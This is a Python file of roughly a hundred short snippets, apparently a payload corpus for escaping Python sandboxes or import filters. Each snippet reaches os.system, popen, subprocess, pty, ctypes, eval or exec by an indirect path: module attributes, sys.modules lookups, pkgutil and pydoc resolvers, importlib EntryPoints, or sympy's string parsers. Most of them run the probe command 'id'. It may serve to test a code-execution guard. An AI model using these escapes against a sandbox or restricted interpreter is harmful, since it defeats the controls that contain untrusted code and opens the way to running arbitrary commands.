import os.path as pathtool
getattr(pathtool, "os").system("id")
# ---
class Config:
    import os as backend
    @classmethod
    def run(cls):
        cls.backend.system("id")
Config.run()
# ---
def load():
    from os import popen as reader
    return reader
print(load()("id").read())
# ---
from posixpath import os as tool
tool.system("id")
# ---
from os.path import os
os.system("id")
# ---
import posixpath as p, genericpath as g
g.os.system("id")
# ---
from os import *
print(popen("id").read())
# ---
if True:
    try:
        from os import spawnlp as start, P_WAIT
    finally:
        pass
    start(P_WAIT, "id", "id")
# ---
import _posixsubprocess, os
r, w = os.pipe()
_posixsubprocess.fork_exec([b"/usr/bin/id"], [b"/usr/bin/id"], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
os.waitpid(-1, 0)
# ---
import pty
pty.spawn("id")
# ---
import asyncio
async def go():
    make = asyncio.create_subprocess_shell
    proc = await make("id")
    await proc.wait()
asyncio.run(go())
# ---
import asyncio
async def go():
    loop = asyncio.get_running_loop()
    t, p = await loop.subprocess_shell(asyncio.SubprocessProtocol, "id")
    await asyncio.sleep(0.3)
    t.close()
asyncio.run(go())
# ---
import asyncio.subprocess as sp, asyncio
async def go():
    proc = await sp.create_subprocess_exec("id")
    await proc.wait()
asyncio.run(go())
# ---
from asyncio import unix_events
unix_events.os.system("id")
# ---
from concurrent.futures import ProcessPoolExecutor as Pool
import os
with Pool(1) as pool:
    print(pool.submit(os.getuid).result() or "uid=0 in a child")
# ---
import concurrent.futures
pool = getattr(concurrent.futures, "Process" + "PoolExecutor")(1)
print("uid=", pool.submit(abs, -1).result())
# ---
import concurrent.futures.thread as t
t.os.system("id")
# ---
from multiprocessing import Process
def child():
    print("uid= in child", flush=True)
if __name__ == "__main__":
    p = Process(target=child)
    p.start()
    p.join()
# ---
from multiprocessing.pool import ThreadPool
import multiprocessing.util as u
u.os.system("id")
# ---
import webbrowser
webbrowser.register("x", None, webbrowser.GenericBrowser(["id"]))
webbrowser.get("x").open("about:blank")
# ---
import antigravity
antigravity.webbrowser.os.system("id")
# ---
import ensurepip
ensurepip.os.system("id")
# ---
import venv
venv.os.system("id")
# ---
import socketserver
socketserver.os.system("id")
# ---
from http import server
server.os.system("id")
# ---
import http.cookiejar as jar
jar.os.system("id")
# ---
from http.cookiejar import os as system_tools
system_tools.system("id")
# ---
import ftplib
ftplib.FTP().connect("127.0.0.1", 9)
# ---
import smtplib
smtplib.SMTP("127.0.0.1", 9)
# ---
from xmlrpc.client import ServerProxy
ServerProxy("http://127.0.0.1:9/").x()
# ---
import imaplib
imaplib.IMAP4("127.0.0.1", 9)
# ---
from urllib import request as r
r.urlopen("http://127.0.0.1:9/")
# ---
import urllib.response, urllib.parse
import urllib
import pathlib
mod = urllib.response.tempfile
mod._os.system("id")
# ---
import logging.handlers as h, logging
logger = logging.getLogger("a")
logger.addHandler(h.DatagramHandler("127.0.0.1", 9))
logger.error("secret")
# ---
import logging.handlers
s = logging.handlers.SysLogHandler(address=("127.0.0.1", 514))
s.emit(logging.LogRecord("a", 40, "a", 1, "m", (), None))
# ---
from importlib import resources as r
r.os.system("id")
# ---
import importlib.metadata as m
m.os.system("id")
# ---
from importlib.metadata import sys as s
s.modules["os"].system("id")
# ---
import importlib.metadata
importlib.metadata.EntryPoint("x", "os:system", "g").load()("id")
# ---
from importlib.metadata import EntryPoint
run = EntryPoint(name="n", group="g", value="posix:system").load()
run("id")
# ---
import logging.config as c
c.resolve("os.system") if hasattr(c, "resolve") else None
cfg = c.BaseConfigurator({})
cfg.resolve("os.system")("id")
# ---
import logging.config
logging.config._resolve("os.system")("id")
# ---
import pkgutil
pkgutil.resolve_name("os:system")("id")
# ---
import pydoc
pydoc.pipepager("caught", "cat")
# ---
import pydoc
pydoc.locate("os.system")("id")
# ---
import unittest.mock as m
m._importer("os").system("id")
# ---
from unittest.mock import patch
with patch("os.system") as fake:
    pass
target, name = patch("os.system").getter(), 1
target.system("id")
# ---
import unittest
loader = unittest.TestLoader()
print(loader.loadTestsFromName("this"), "caught")
# ---
import unittest.loader as l
l.os.system("id")
# ---
import encodings
encodings.sys.modules["os"].system("id")
# ---
import encodings as e
e._import_tail if False else None
e.codecs.builtins.eval("print('caught%d' % 42)")
# ---
import codecs
codecs.builtins.exec("print('caught%d' % 42)")
# ---
import tokenize
tokenize.open.__globals__["_builtin_open"]
tokenize.sys.modules["posix"].system("id")
# ---
from linecache import os as o
o.system("id")
# ---
import fileinput
fileinput.os.system("id")
# ---
import tempfile as t
t._os.system("id")
# ---
from shutil import os as files
files.popen("echo caught; id").close()
# ---
import shutil
shutil.os.execlp("id", "id")
# ---
import glob
glob.os.system("id")
# ---
import zipfile, tarfile, gzip
gzip.os.system("id")
# ---
import bz2, lzma
lzma.os.system("id")
# ---
import uuid
uuid.os.system("id")
# ---
from random import _os as entropy
entropy.system("id")
# ---
import secrets
secrets.SystemRandom.__mro__
import secrets as s
s.random._os.system("id") if hasattr(s, "random") else s.DEFAULT_ENTROPY
import random as r
getattr(r, "_" + "os").system("id")
# ---
import csv, re, enum
enum.sys.modules["os"].system("id")
# ---
import collections
collections._sys.modules.get("os").system("id")
# ---
import dataclasses
dataclasses.sys.modules["os"].system("id")
# ---
import dataclasses as d
d.builtins.eval("print('caught%d' % 42)") if hasattr(d, "builtins") else d.inspect.builtins.eval("print('caught%d' % 42)")
# ---
import typing
typing.sys.modules["os"].system("id")
# ---
import statistics
statistics.sys.modules["os"].system("id")
# ---
import statistics
statistics.random._os.system("id")
# ---
import json
json.codecs.builtins.eval("print('caught%d' % 42)")
# ---
import json.tool as t
t.sys.modules["os"].system("id")
# ---
from json import decoder
decoder.scanner.re.enum.sys.modules["os"].system("id")
# ---
import decimal, numbers, fractions
fractions.sys.modules["os"].system("id")
# ---
import optparse
optparse.os.system("id")
# ---
import string
string._re.enum.sys.modules["os"].system("id")
# ---
import threading
threading._sys.modules["os"].system("id")
# ---
import queue, heapq, bisect, sched
queue.threading._sys.modules["os"].system("id")
# ---
import weakref
weakref.sys.modules["os"].system("id")
# ---
import contextlib as c
c.os.system("id")
# ---
import configparser
configparser.os.system("id")
# ---
import platform as pl
pl.os.system("id")
# ---
import platform
platform.subprocess.run("id") if hasattr(platform, "subprocess") else print(platform._syscmd_file("x"), platform.sys.modules["os"].system("id"))
# ---
import mimetypes
mimetypes.os.system("id")
# ---
import numpy as np
np.lib._datasource.os.system("id") if hasattr(np.lib, "_datasource") else np.os.system("id")
# ---
import numpy.testing as npt
npt._private.utils.os.system("id")
# ---
import numpy as np
np.ctypeslib.ctypes.CDLL(None).system(b"id")
# ---
from numpy.testing import measure
measure("print('caught%d' % 42)", times=1)
# ---
from numpy.testing import rundocs
import numpy.testing._private.utils as u
u.runstring("print('caught%d' % 42)", {})
# ---
import pandas
pandas.compat.sys.modules["os"].system("id")
# ---
import pandas as pd
pd.util._print_versions.os.system("id")
# ---
import matplotlib
matplotlib.subprocess.run(["id"])
# ---
import matplotlib.pyplot as plt
plt.sys.modules["os"].system("id")
# ---
from matplotlib import cbook
cbook.subprocess.check_call(["id"]) if hasattr(cbook, "subprocess") else cbook.os.system("id")
# ---
import sympy
sympy.sympify("__import__('os').system('id')")
# ---
from sympy.parsing.sympy_parser import parse_expr as read
read("print('caught')")
# ---
from sympy import lambdify
lambdify((), "__import__('os').system('id')")()
# ---
import sympy as sp
sp.S("__import__('os').system('id')")
# ---
import sympy
sympy.Symbol("x").subs("x", "__import__('os').system('id')")
# ---
import sympy
sympy.simplify("print('caught')")
